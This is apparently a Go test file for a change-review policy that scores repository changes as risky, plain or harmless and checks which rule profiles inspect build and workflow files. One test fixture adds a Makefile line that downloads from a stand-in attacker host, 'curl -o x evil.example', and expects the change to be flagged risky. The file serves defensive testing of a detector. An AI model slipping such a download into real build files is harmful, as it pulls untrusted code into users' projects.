package policy

import (
	"errors"
	"testing"
)

// TestBrief: what nobody looked at in full is looked at once a rule asks for its shape, and is risky if it can't be.
func TestBrief(t *testing.T) {
	const file = 0o100644
	old, now := []byte("all:\n"), []byte("all:\n\tcurl -o x evil.example\n")
	c := Content{Path: "src/rules", Before: [][]byte{old}, Head: now, Size: int64(len(now)), Brief: true}
	brief := Inspect(c)
	c.Brief = false
	full := Inspect(c)
	if brief != briefTrait || full != riskyTrait {
		t.Fatalf("the traits are %b in brief and %b in full", brief, full)
	}
	asked := 0
	look := func(traits Traits, err error) func() (Traits, error) {
		return func() (Traits, error) { asked++; return traits, err }
	}
	for name, test := range map[string]struct {
		look func() (Traits, error)
		want Shape
	}{
		"risky":                {look(riskyTrait, nil), ShapeRisky},
		"plain":                {look(0, nil), ShapePlain},
		"that can't be read":   {look(0, errors.New("no such pack")), ShapeRisky},
		"that nobody can read": {nil, ShapeRisky},
	} {
		ch := Change{Path: c.Path, OldMode: file, NewMode: file, Traits: brief, Look: test.look}
		if got := ch.Shape(); got != test.want {
			t.Errorf("a change %s is %s, want %s", name, got, test.want)
		}
		asked = 0
		if ch.harmless() || asked > 0 {
			t.Errorf("a change %s is harmless, or was looked at for that", name)
		}
		build := rulesOf(ProfileStandard)[2]
		if build.asks("fixture", &ch) || build.asks("binary", &ch) || asked > 0 {
			t.Errorf("a change %s: a rule asks about a class that it doesn't have, or looked for that", name)
		}
		if got, want := build.asks("build", &ch), test.want == ShapeRisky; got != want {
			t.Errorf("a change %s: the rule for the build asks about it: %t, want %t", name, got, want)
		}
	}
}

// TestBriefIsNeverHarmless: credit doesn't look again, so what may be harmless is always looked at in full.
func TestBriefIsNeverHarmless(t *testing.T) {
	for path, want := range map[string]bool{
		"src/main.c": true, "notes": true, "docs/a.yml": false, "a/package.json": false, "x/configure.ac": false,
	} {
		c := Content{Path: path, Before: [][]byte{[]byte("a: 1\n")}, Head: []byte("a: 2\n"), Size: 5, Brief: true}
		if got := Inspect(c)&briefTrait != 0; got != want {
			t.Errorf("%s is looked at briefly: %t, want %t", path, got, want)
		}
		c.Head = c.Before[0]
		if Inspect(c) != harmlessTrait {
			t.Errorf("%s: a change of nothing isn't harmless", path)
		}
	}
}

func TestAsksShape(t *testing.T) {
	p := Default()
	for path, want := range map[string]bool{
		"configure.ac": true, ".github/workflows/a.yml": true, "src/main.c": false, "tests/a.bin": false, "a.gpg": false,
	} {
		if got := p.AsksShape(path); got != want {
			t.Errorf("the standard profile asks for the shape of %s: %t, want %t", path, got, want)
		}
		if p.WithRulesOf(ProfileCalm).AsksShape(path) {
			t.Errorf("the calm profile asks for the shape of %s", path)
		}
	}
}
